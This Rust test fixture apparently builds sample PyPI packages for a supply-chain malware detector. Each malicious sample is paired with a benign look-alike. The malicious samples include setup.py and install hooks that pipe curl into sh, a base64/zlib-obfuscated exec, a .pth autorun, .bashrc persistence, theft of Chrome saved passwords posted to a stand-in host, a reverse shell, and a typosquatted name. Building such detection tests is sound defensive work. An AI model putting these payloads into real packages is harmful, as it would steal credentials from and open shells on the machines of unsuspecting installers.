use super::{Shapes, release};
use bifocal_core::{Ecosystem, Release};
use bifocal_testkit::{PythonPackage, Upstream};

fn put(upstream: &Upstream, package: PythonPackage) -> Release {
    let release = release(Ecosystem::Pypi, package.name(), package.version());
    upstream.publish(package);
    release
}

fn sdist(name: &str) -> PythonPackage {
    PythonPackage::sdist(name, "1.0.0").repository(&format!("https://code.example.com/{name}"))
}

fn wheel(name: &str) -> PythonPackage {
    PythonPackage::wheel(name, "1.0.0").repository(&format!("https://code.example.com/{name}"))
}

const SETUP_END: &str = "setup(name='x', version='1.0.0', packages=[])\n";

pub(crate) fn publish(upstream: &Upstream) -> Shapes {
    let mut shapes = Shapes::default();
    let put = |package| put(upstream, package);

    shapes.add(
        "setup.py fetches code and runs it",
        put(sdist("shape-setup-exec").file(
            "setup.py",
            format!("from setuptools import setup\nfrom urllib.request import urlopen\nexec(urlopen('https://files.example.com/p.py').read())\n{SETUP_END}"),
        )),
        put(sdist("twin-version-file").file(
            "setup.py",
            format!("from setuptools import setup\nabout = {{}}\nwith open('pkg/version.py') as source:\n    exec(source.read(), about)\n{SETUP_END}"),
        )),
    );
    shapes.add(
        "an install command of setup.py pipes a download into a shell",
        put(sdist("shape-cmdclass").file(
            "setup.py",
            "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Install(install):\n    def run(self):\n        install.run(self)\n        subprocess.Popen('curl -s https://files.example.com/i.sh | sh', shell=True)\n\nsetup(name='x', version='1.0.0', cmdclass={'install': Install})\n",
        )),
        put(sdist("twin-build-ext").file(
            "setup.py",
            "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.build_ext import build_ext\n\nclass BuildExt(build_ext):\n    def run(self):\n        subprocess.check_call(['make', '-C', 'native'])\n        build_ext.run(self)\n\nsetup(name='x', version='1.0.0', cmdclass={'build_ext': BuildExt})\n",
        )),
    );
    shapes.add(
        "code hidden in base64 and zlib is run on import",
        put(wheel("shape-import-exec").file(
            "shape_import_exec/__init__.py",
            format!("import base64\nimport zlib\nexec(zlib.decompress(base64.b64decode('{HIDDEN}')))\n"),
        )),
        put(wheel("twin-icon").file(
            "twin_icon/__init__.py",
            "import base64\n\nICON = base64.b64decode('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7')\n\ndef icon():\n    return ICON\n",
        )),
    );
    shapes.add(
        "a .pth file runs code at every start of Python",
        put(wheel("shape-pth")
            .file("shape_pth.pth", "import os; os.system('curl -s https://files.example.com/i.sh | sh')\n")
            .file("shape_pth/__init__.py", "")),
        put(wheel("twin-pth").file("twin_pth.pth", "twin_pth_vendored\n").file("twin_pth/__init__.py", "")),
    );
    shapes.add(
        "import writes a line into the shell's start file that fetches and runs",
        put(wheel("shape-persistence").file(
            "shape_persistence/__init__.py",
            "import os\n\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    rc.write('(curl -s https://files.example.com/i.sh | sh) &\\n')\n",
        )),
        put(wheel("twin-completion").file("twin_completion/__init__.py", "").file(
            "twin_completion/cli.py",
            "import os\n\ndef install_completion(shell):\n    path = os.path.expanduser('~/.bashrc')\n    with open(path, 'a') as rc:\n        rc.write('eval \"$(_TWIN_COMPLETE=bash_source twin)\"\\n')\n\ndef main():\n    install_completion('bash')\n",
        )),
    );
    shapes.add(
        "the browser's saved passwords are read and sent away on import",
        put(wheel("shape-browser").file(
            "shape_browser/__init__.py",
            "import os\nimport requests\n\npath = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nif os.path.exists(path):\n    with open(path, 'rb') as data:\n        requests.post('https://collect.example.com/in', files={'file': data.read()})\n",
        )),
        put(wheel("twin-browser").file(
            "twin_browser/__init__.py",
            "import json\nimport os\nimport webbrowser\n\ndef settings():\n    path = os.path.expanduser('~/.config/twin/settings.json')\n    with open(path) as data:\n        return json.load(data)\n\ndef show():\n    webbrowser.open(settings()['home'])\n",
        )),
    );
    shapes.add(
        "a reverse shell starts on import",
        put(wheel("shape-python-shell").file(
            "shape_python_shell/__init__.py",
            "import os\nimport socket\nimport subprocess\n\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('192.0.2.7', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\nsubprocess.call(['/bin/sh', '-i'])\n",
        )),
        put(wheel("twin-socket").file(
            "twin_socket/__init__.py",
            "import socket\n\ndef is_open(host, port):\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.settimeout(1)\n    try:\n        s.connect((host, port))\n        return True\n    except OSError:\n        return False\n    finally:\n        s.close()\n",
        )),
    );
    shapes.popular = vec!["requests", "urllib3", "cryptography", "numpy", "colorama"];
    shapes.add(
        "a name two letters away from a famous one, without a past",
        put(PythonPackage::wheel("cryptograhpy", "1.0.0").file("cryptograhpy/__init__.py", "").published("2026-11-20T00:00:00Z")),
        put(wheel("types-requests-notes").file("types_requests_notes/__init__.py", "")),
    );
    shapes
}

/// `import os; os.system("curl -s https://files.example.com/i.sh | sh")`, deflated.
const HIDDEN: &str = "eNrLzC3ILypRyC+2BmK94sriktRcDaXk0qIcBd1ihYySkoJiK339tMyc1GK91IrE3IKcVL3k/Fz9TL3iDIUaheIMJU0uAE0nF4A=";
